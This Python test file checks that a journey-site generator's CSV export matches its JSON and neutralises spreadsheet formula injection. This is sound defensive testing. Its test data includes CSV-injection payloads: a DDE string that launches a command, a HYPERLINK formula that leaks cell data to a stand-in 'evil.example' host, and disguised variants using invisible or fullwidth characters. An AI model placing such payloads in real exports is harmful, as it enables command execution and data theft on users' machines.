"""`data/<id>.csv`: the same values as in the JSON, and no cell that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from browser import texts
from browser.sites import MINIMAL, write
from goldens import SITES, cases
from hypothesis import given
from hypothesis import strategies as st
from test_hostile_texts import HOSTILE, NASTY

from cjgen.build import build_site, read_site
from cjgen.export import journey_data, journey_table
from cjgen.export.csv import harmless

FORMULAS = [
    "=1+1",
    "+31 30 123",
    "-korting",
    "@keukenhuis",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000+1",
    "\u200b=1",
    "\ufeff-1",
    "\u2066=1+1\u2069",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '"=1+1"',
    "a;=1+1",
    'a"; "=1+1',
    "a;;=1;-1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "a\t=1",
    "a\n=1",
    "\tplain",
    "\rplain",
]
HARMLESS = [
    "Afspraak",
    "a=b",
    "a-b, c+d",
    "mail@example.org",
    "'quoted'",
    '"quoted"',
    "5 > 3; 2 < 4",
    "– dash",
    "a; b=c",
]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet might compute a cell: it looks past blanks, quotes and signs of no width."""
    seen = [c for c in unicodedata.normalize("NFKC", cell) if not c.isspace() and c != '"']
    seen = [c for c in seen if unicodedata.category(c) not in ("Cf", "Cc", "Mn")]
    return cell[:1] in ("\t", "\r", "\n") or (bool(seen) and seen[0] in "=+-@")


def cells_seen(text: str) -> list[str]:
    """The text as one cell, and as the cells into which other separators would split it."""
    return [text, *re.split("[;\t\r\n]", text)[1:]]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_may_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert any(is_formula(cell) for cell in cells_seen(text))
    assert not any(is_formula(cell) for cell in cells_seen(harmless(text)))
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.one_of(NASTY, st.text(alphabet="=+-@;\t\r\n\"' a\u00a0\u200b\uff1d")))
def test_no_text_is_a_formula(text: str) -> None:
    assert not any(is_formula(cell) for cell in cells_seen(harmless(text)))
    assert re.sub("'", "", harmless(text)) == re.sub("'", "", text)


def rows(path: Path) -> list[dict[str, str]]:
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


PLACES = {
    "stage": ("stage",),
    "promise_mean": ("promise", "mean"),
    **{f"threshold_{axis}": ("threshold", axis) for axis in ("importance", "experience", "drop")},
    **{
        f"{axis}_{part}": (axis, part)
        for axis in ("importance", "experience")
        for part in ("mean", "sd", "n", "n_effective", "low", "high", "source")
    },
    "contrast_kind": ("contrast", "kind"),
    "failure_cost_per_year": ("failure", "cost_per_year"),
}


def in_json(touchpoint: dict[str, Any], column: str) -> Any:
    """What the JSON has where the table has a column."""
    if column == "complaints_per_100":
        complaints = touchpoint["complaints"]
        return 100 * complaints["count"] / complaints["of"] if complaints else None
    value: Any = touchpoint
    for name in PLACES.get(column, (column,)):
        value = None if value is None else value[name]
    return value


def of_groups(data: dict[str, Any], place: int) -> dict[str, Any]:
    """What the JSON has of one touchpoint in the focus, in segments and waves, by the columns of the table."""
    groups = {f"segment_{group['column']}_{group['id']}": group for group in data["segments"]}
    groups |= {f"wave_{group['id']}": group for group in data["waves"]}
    focus = data["focus"]
    found: dict[str, Any] = {"focus": focus and data["touchpoints"][place]["id"] in focus["chosen"]}
    for name, group in groups.items():
        said = group["touchpoints"][place]
        for axis in ("importance", "experience"):
            found[harmless(f"{name}_{axis}_mean")] = said[axis]["mean"] if said[axis] else None
        found[harmless(f"{name}_verdict")] = said["verdict"]
    return found


def same(cell: str, value: Any) -> bool:
    if value is None or isinstance(value, bool):
        return cell == {None: "", True: "true", False: "false"}[value]
    if isinstance(value, str):
        return cell == harmless(value)
    return cell == repr(value) and float(cell) == value


def differences(data: Path) -> list[str]:
    """Cells of the tables in a folder that are not what the JSON beside them says."""
    found = []
    files = [path for path in sorted(data.glob("*.json")) if path.stem != "site"]
    tables = {path.stem for path in data.glob("*.csv")}
    assert {path.stem for path in files} == {name for name in tables if not name.endswith("-plan")}  # of actions
    for path in files:
        data_file = json.loads(path.read_bytes())
        touchpoints = data_file["touchpoints"]
        table = rows(path.with_suffix(".csv"))
        assert [row["id"] for row in table] == [touchpoint["id"] for touchpoint in touchpoints]
        for place, (row, touchpoint) in enumerate(zip(table, touchpoints, strict=True)):
            grouped = of_groups(data_file, place)
            found += [
                f"{path.stem} {row['id']} {column}: {cell!r}"
                for column, cell in row.items()
                if not same(cell, grouped[column] if column in grouped else in_json(touchpoint, column))
            ]
    return found


@pytest.mark.parametrize("case", cases(SITES))
def test_the_table_holds_what_the_json_holds(case: str, tmp_path: Path) -> None:
    assert build_site(SITES / case / "input", output=tmp_path, drafts=True).written
    assert differences(tmp_path / "data") == []


@pytest.mark.parametrize("text", [*HOSTILE.values(), *FORMULAS], ids=[*HOSTILE, *map(ascii, FORMULAS)])
def test_hostile_texts_stay_in_their_cells(text: str, tmp_path: Path) -> None:
    if not texts.normalised("line", text):
        pytest.fail("a text that is empty tests nothing")
    journey = {"improve": (texts.journey("improve"), lambda kind: text)}
    checked = read_site(texts.authored(tmp_path / "site", lambda kind: text, journey))
    assert checked.errors == 0
    (found,) = checked.journeys
    (tmp_path / "improve.json").write_bytes(journey_data(found, "EUR"))
    (tmp_path / "improve.csv").write_bytes(journey_table(found))
    assert differences(tmp_path) == []
    for row in rows(tmp_path / "improve.csv"):
        for column in ("title", "channel", "owner"):
            assert not any(is_formula(cell) for cell in cells_seen(row[column])), row[column]


def test_numbers_below_zero_stay_numbers(tmp_path: Path) -> None:
    root = write(tmp_path / "site", "title: T\n", minimal=MINIMAL)
    build_site(root, output=tmp_path / "out")
    gaps = [row["gap"] for row in rows(tmp_path / "out" / "data" / "minimal.csv") if row["gap"]]
    assert any(float(gap) < 0 for gap in gaps)


def test_every_report_links_its_table(tmp_path: Path) -> None:
    root = write(tmp_path / "site", "title: T\n", minimal=MINIMAL)
    build_site(root, output=tmp_path / "out")
    page = (tmp_path / "out" / "journeys" / "minimal.html").read_text("utf-8")
    assert 'href="../data/minimal.csv"' in page
    assert ".csv" not in (tmp_path / "out" / "index.html").read_text("utf-8")
